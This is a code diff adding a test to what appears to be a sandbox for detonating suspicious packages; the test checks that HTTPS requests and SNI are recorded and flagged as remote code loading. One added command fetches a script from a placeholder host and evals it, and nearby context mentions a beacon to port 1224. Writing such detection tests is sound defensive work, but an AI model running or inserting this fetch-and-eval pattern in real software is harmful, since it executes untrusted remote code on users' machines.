@@ -121,6 +121,22 @@ describe('detonate in the bubblewrap sandbox', { skip: !linux && 'bubblewrap nee
     assert.equal(ruleHits(r, 'runtime/remote-code-loaded')[0]?.severity, 'critical');
   });
 
+  it('HTTPS: sandboxed Node trusts the per-run CA and its request is recorded; an untrusting client is recorded by SNI', async () => {
+    const r = await detonate(fixture('no-package'), {
+      ...base,
+      phases: ['open'],
+      commands: {
+        open: [
+          { label: 'node https', command: `node -e "fetch('https://secure.example.invalid/stage2').then(r => r.text()).then(t => eval(t)).catch(() => {})"` },
+          { label: 'untrusting client', command: 'wget -q -O- --ca-certificate=/dev/null https://other.example.invalid/z; true' },
+        ],
+      },
+    });
+    assert.ok(kinds(r, 'http').some(b => b.detail?.['url'] === 'https://secure.example.invalid/stage2' && b.detail['tls'] === true));
+    assert.ok(kinds(r, 'network').some(b => b.detail?.['sni'] === 'other.example.invalid'));
+    assert.match(ruleHits(r, 'runtime/remote-code-loaded')[0]?.message ?? '', /https:\/\/secure\.example\.invalid\/stage2/);
+  });
+
   it('a beacon to a documentation-range IP on :1224 is recorded by the tracer and the sink', async () => {
     const r = await detonate(fixture('beacon'), { ...base, phases: ['install'] });
     assert.ok(kinds(r, 'network').some(b => b.detail?.['address'] === '203.0.113.10' && b.detail['port'] === 1224));
